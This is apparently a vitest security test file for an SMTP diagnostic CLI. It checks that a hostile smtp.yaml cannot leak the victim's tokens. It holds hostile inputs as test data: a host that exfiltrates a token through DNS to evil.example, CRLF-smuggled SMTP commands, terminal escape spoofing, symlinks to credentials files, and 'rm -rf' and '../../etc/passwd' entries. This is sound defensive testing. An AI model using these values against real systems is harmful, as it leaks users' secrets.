// biome-ignore-all lint/suspicious/noTemplateCurlyInString: references in smtp.yaml are written like this
import { execFileSync, spawn } from 'node:child_process';
import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { secretsIn } from '../canary.mjs';
import { accepting, type ScriptServer, serve } from './script-server';

// Somebody clones a repository and runs `smtp-doctor test` in it. Whatever the files say, what is in the environment and in
// the secrets of that person must stay there. SECURITY.md lists these attempts.

const cli = join(__dirname, '../../dist/cli.js');
const canary = 'v1ctim-Token/+9"&';
let folder: string;
let listener: ScriptServer;

beforeEach(async () => {
  folder = mkdtempSync(join(tmpdir(), 'hostile-'));
  listener = await serve(accepting(undefined, ['AUTH PLAIN LOGIN']));
});
afterEach(() => {
  rmSync(folder, { recursive: true, force: true });
});

/** Runs the test of what the attacker wrote, with the victim's secrets in the environment and no terminal. */
async function attack(settings: string, rest = '', args: string[] = []) {
  writeFileSync(join(folder, 'smtp.yaml'), `accounts:\n  shop: { ${settings} }\n${rest}`);
  return runIn(args);
}

async function runIn(args: string[]) {
  const child = spawn(process.execPath, [cli, 'test', '--lang', 'en', ...args], {
    cwd: folder,
    stdio: ['ignore', 'pipe', 'pipe'],
    env: {
      ...process.env,
      VICTIM_TOKEN: canary,
      SMTP_DOCTOR_SECRET_SHOP: canary,
      XDG_CONFIG_HOME: join(folder, 'config'),
    },
  });
  let output = '';
  for (const stream of [child.stdout, child.stderr])
    stream.on('data', (chunk) => {
      output += chunk;
    });
  const status = await new Promise<number | null>((resolve) => child.on('close', resolve));
  return { status, output };
}

/** Nothing secret went over the wire or was shown. */
function expectNothing(output: string): void {
  expect(secretsIn(listener.received.join('\n'), [canary])).toEqual([]);
  expect(secretsIn(output, [canary])).toEqual([]);
}

const local = () => `host: 127.0.0.1, port: ${listener.port}, encryption: none, user: me@example.com`;

describe('a listener of the attacker’s', () => {
  const byName = () => `host: localhost, port: ${listener.port}, encryption: none, user: me`;

  it.each([
    ['the environment', 'password: "${env:VICTIM_TOKEN}"'],
    ['the secrets', 'password: "${secret:shop}"'],
    ['the environment, as user', 'password: x'],
    ['a question', 'password: "${ask}"'],
    ['an access token', 'auth: oauth2, oauth2: { clientId: c, issuer: "https://accounts.google.com" }'],
  ])('gets nothing of %s: no connection is opened', async (name, password) => {
    const settings = name.endsWith('user') ? byName().replace('user: me', 'user: "${env:VICTIM_TOKEN}"') : byName();
    const { status, output } = await attack(`${settings}, ${password}`);
    expect(status).toBe(2);
    expect(listener.connections).toBe(0);
    expectNothing(output);
  });

  it('is named truly in the refusal, also when another host is allowed', async () => {
    const { status, output } = await attack(`${byName()}, password: "\${secret:shop}"`, '', [
      '--allow-host',
      '127.0.0.1',
    ]);
    expect(status).toBe(2);
    expect(output).toContain('--allow-host localhost');
    expect(listener.connections).toBe(0);
  });

  it('as a proxy gets nothing, not even for this machine', async () => {
    for (const proxy of ['socks5', 'http']) {
      const settings = `${local()}, password: "\${secret:shop}", proxy: "${proxy}://127.0.0.1:${listener.port}"`;
      const { status, output } = await attack(settings);
      expect(status).toBe(2);
      expectNothing(output);
    }
    expect(listener.connections).toBe(0);
  });

  it('as token endpoint or issuer gets nothing', async () => {
    const url = `http://127.0.0.1:${listener.port}`;
    const urls = `authorizationUrl: "${url}/a", tokenUrl: "${url}/t"`;
    for (const oauth2 of [urls, `issuer: "${url}"`, `${urls}, issuer: "https://accounts.google.com"`]) {
      const client = 'clientId: c, clientSecret: "${env:VICTIM_TOKEN}"';
      const { status, output } = await attack(`${local()}, auth: oauth2, oauth2: { ${client}, ${oauth2} }`);
      expect(status).toBe(2);
      expectNothing(output);
    }
    expect(listener.connections).toBe(0);
  });
});

describe('a file that wants an environment value out', () => {
  it.each([
    ['host: "${env:VICTIM_TOKEN}.evil.example", user: u, password: p'],
    ['host: "${env:VICTIM_TOKEN}", user: u, password: p'],
    ['host: "x", port: "${env:VICTIM_TOKEN}", user: u, password: p'],
    ['host: "x", user: "a${env:VICTIM_TOKEN}", password: p'],
    ['host: "x", user: u, password: "a${env:VICTIM_TOKEN}"'],
    ['host: "x", user: "${secret:shop}", password: p'],
    ['host: "x", proxy: "http://${env:VICTIM_TOKEN}:1"'],
  ])('in a place that takes none, or beside other text, is refused: { %s }', async (settings) => {
    const { status, output } = await attack(settings);
    expect(status).toBe(2);
    expectNothing(output);
  });

  it('in a field of the mail sends the words of the reference, never the value', async () => {
    const value = '"${env:VICTIM_TOKEN}@x.example"';
    const fields = `from: ${value}, replyTo: ${value}, envelopeFrom: ${value}, ehloName: ${value}, password: p`;
    const test = `test: { mode: send, to: ${value}, subject: ${value}, body: both }\n`;
    const { output } = await attack(`${local()}, ${fields}`, test);
    expect(listener.received.join('\n')).toContain('MAIL FROM');
    expectNothing(output);
  });
});

describe('line breaks in values', () => {
  const injected = '\\r\\nRCPT TO:<attacker@evil.example>\\r\\nX-Injected: yes\\r\\n';
  const fields = ['host', 'user', 'password', 'from', 'replyTo', 'envelopeFrom', 'ehloName', 'proxy', 'mechanism'];
  const base = {
    host: '127.0.0.1',
    user: 'me@example.com',
    password: 'p',
    from: 'me@example.com',
    to: 'you@example.com',
  };

  it.each([...fields, 'provider', 'timeout', 'subject', 'to', 'body', 'name'])(
    'in %s send no command',
    async (field) => {
      const account: Record<string, string | number> = { ...base, port: listener.port, encryption: 'none' };
      delete account.to;
      const test: Record<string, string> = { mode: 'send', to: base.to };
      const target = ['subject', 'to', 'body'].includes(field) ? test : account;
      if (field !== 'name') target[field] = `${target[field] ?? 'x'}${injected}`;
      const flow = (record: Record<string, string | number>) =>
        Object.entries(record)
          .map(([key, value]) => `${key}: "${value}"`)
          .join(', ')
          .replace(/port: "(\d+)"/, 'port: $1');
      const name = field === 'name' ? `"shop${injected}"` : 'shop';
      writeFileSync(join(folder, 'smtp.yaml'), `accounts:\n  ${name}: { ${flow(account)} }\ntest: { ${flow(test)} }\n`);
      await runIn([]);
      expect(listener.received.filter((line) => /^(RCPT TO:<attacker|X-Injected)/.test(line))).toEqual([]);
    },
  );

  it('and escape sequences cannot hide where something goes', async () => {
    const { output } = await attack(
      'host: "evil.example\\u001b[2K\\rsmtp.gmail.com", user: u, password: "${secret:shop}"',
    );
    expect(output.includes('\u001b')).toBe(false);
    expect(output).toContain('--allow-host evil.example');
  });
});

describe('files that are not what they seem', () => {
  it('a link named smtp.yaml shows nothing of what it leads to', async () => {
    writeFileSync(join(folder, 'credentials'), `[default]\naws_secret = ${canary}\n`);
    symlinkSync(join(folder, 'credentials'), join(folder, 'smtp.yaml'));
    const { status, output } = await runIn([]);
    expect(status).toBe(2);
    expectNothing(output);
  });

  it.each(['device', 'pipe', 'folder', 'link to a secret'])(
    'a %s as file of authorities ends at once',
    async (kind) => {
      const ca = join(folder, 'ca.pem');
      writeFileSync(join(folder, 'credentials'), canary);
      if (kind === 'device') symlinkSync('/dev/zero', ca);
      if (kind === 'pipe') execFileSync('mkfifo', [ca]);
      if (kind === 'folder') symlinkSync(folder, ca);
      if (kind === 'link to a secret') symlinkSync(join(folder, 'credentials'), ca);
      const { output } = await attack(`${local()}, password: p, tls: { ca: ca.pem, cert: ca.pem, key: ca.pem }`);
      if (kind !== 'link to a secret') expect(output).toContain('ca.pem cannot be read');
      expectNothing(output);
    },
  );

  it('a .env beside it is not read', async () => {
    writeFileSync(join(folder, '.env'), `OTHER_TOKEN='${canary}'\nSMTP_DOCTOR_SECRET_OTHER='${canary}'\n`);
    for (const reference of ['env:OTHER_TOKEN', 'secret:other']) {
      const { status, output } = await attack(`${local()}, password: "\${${reference}}"`);
      expect(status).toBe(2);
      expectNothing(output);
    }
    expect(listener.connections).toBe(0);
  });

  it('smtp-rules.yaml of the attacker’s changes what is said, marked as such, and nothing else', async () => {
    writeFileSync(
      join(folder, 'smtp-rules.yaml'),
      `- id: trap\n  cause: server-unavailable\n  when: { text: [listener] }\n  confidence: 1\n  fixes: [set-password, use-starttls, rm -rf]\n  guide: ../../etc/passwd\n  source: x\n  matches: [{ text: listener }]\n  nearMisses: [{ text: y }]\n`,
    );
    const { output } = await attack('host: localhost, user: u, password: "${secret:shop}"');
    expect(listener.connections).toBe(0);
    expectNothing(output);
    expect(output).not.toContain('root:');
  });
});

describe('a host that was allowed beforehand', () => {
  it('gets the secret, and what the file weakens is said', async () => {
    const settings = `host: localhost, port: ${listener.port}, encryption: none, user: me, password: "\${secret:shop}"`;
    const { output } = await attack(`${settings}, tls: { verify: false, servername: evil.example }`, '', [
      '--allow-host',
      'localhost',
    ]);
    expect(output).toContain('verify: false');
    expect(output).toContain('evil.example');
    expect(output).toContain('not encrypted');
    expect(secretsIn(output, [canary], 'me')).toEqual([]);
    // it really came, so the search of the other tests could have found it
    expect(secretsIn(listener.received.join('\n'), [canary], 'me')).not.toEqual([]);
  });
});
